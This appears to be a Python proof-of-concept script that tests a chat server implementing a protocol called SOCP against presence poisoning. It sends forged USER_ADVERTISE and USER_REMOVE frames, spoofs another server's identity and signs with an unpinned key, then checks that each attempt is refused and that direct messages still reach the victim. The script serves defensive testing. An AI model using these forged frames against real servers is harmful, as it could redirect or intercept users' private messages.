"""Attack: redirect a victim's messages by forging presence (SOCP §6.2, §13).

USER_ADVERTISE / USER_REMOVE for a connected victim are sent over a user
connection, by a server that joined but does not host the victim, in the name of
another server, and signed with a key that is not the link's. Blocked when each
is refused or ignored and a DM to the victim still reaches the victim.

    python poc/presence_poisoning.py --url ws://127.0.0.1:8765
"""

from __future__ import annotations

import argparse

from _common import Keys, Peer, Verdict, main, now_ms, show, user
from socp.protocol import crypto, frames
from socp.protocol.ids import new_id


async def run(args: argparse.Namespace, verdict: Verdict) -> None:
    keys = Keys(args.keys)
    victim = await user(args.url, keys, args.timeout)
    friend = await user(args.url, keys, args.timeout)
    attacker = await user(args.url, keys, args.timeout)
    attacker_key = crypto.encode_public_key(attacker.key)

    verdict.tried("USER_ADVERTISE and USER_REMOVE for the victim over a user connection")
    for frame in (frames.user_advertise(attacker.peer_id, now_ms(), victim.peer_id, {"pubkey": attacker_key}),
                  frames.user_remove(attacker.peer_id, now_ms(), victim.peer_id)):
        await attacker.send(attacker.signed(frame))
        code, detail = await attacker.error()
        verdict.check(code == "FORBIDDEN", f"{frame.type}: answer {code or 'none'} {show(detail)}")

    server = await Peer(args.url, keys.take(), timeout=args.timeout).open()
    await server.join_as_server()
    verdict.tried("a joined server advertises the (local) victim as its own user, with its key")
    await server.send(server.signed(frames.user_advertise(server.peer_id, now_ms(), victim.peer_id,
                                                          {"pubkey": attacker_key})))
    verdict.tried("a joined server sends USER_REMOVE for the victim")
    await server.send(server.signed(frames.user_remove(server.peer_id, now_ms(), victim.peer_id)))
    verdict.tried("a joined server advertises the victim in the name of another server")
    other = new_id()
    forged = frames.Envelope(type="USER_ADVERTISE", from_=server.peer_id, to="*", ts=now_ms(),
                             payload={"user_id": victim.peer_id, "server_id": other, "meta": {"pubkey": attacker_key}})
    await server.send(server.signed(forged))
    code, detail = await server.error()
    verdict.check(code == "FORBIDDEN", f"named another server: answer {code or 'none'} {show(detail)}")
    verdict.tried("USER_ADVERTISE signed with a key that is not the one pinned for the link")
    await server.send(server.signed(frames.user_advertise(server.peer_id, now_ms(), victim.peer_id,
                                                          {"pubkey": attacker_key}), key=attacker.key))
    code, detail = await server.error()
    verdict.check(code == "INVALID_SIG", f"unpinned key: answer {code or 'none'} {show(detail)}")

    verdict.tried("does the victim still get its messages?")
    listed = await friend.list_users()
    verdict.check(victim.peer_id in listed, f"victim still listed as online: {victim.peer_id in listed}")
    await friend.send(friend.dm(victim.peer_id, victim.pubkey, b"meet at noon"))
    got = await victim.receive("USER_DELIVER")
    verdict.check(victim.open_dm(got) == b"meet at noon", "the DM to the victim reached the victim")
    leaked = not await server.nothing_of("SERVER_DELIVER", 0.5)
    verdict.check(not leaked, f"the attacker's server received {'a copy' if leaked else 'nothing'}")
    for peer in (server, victim, friend, attacker):
        await peer.close()


if __name__ == "__main__":
    raise SystemExit(main(run, "presence poisoning with forged USER_ADVERTISE / USER_REMOVE"))
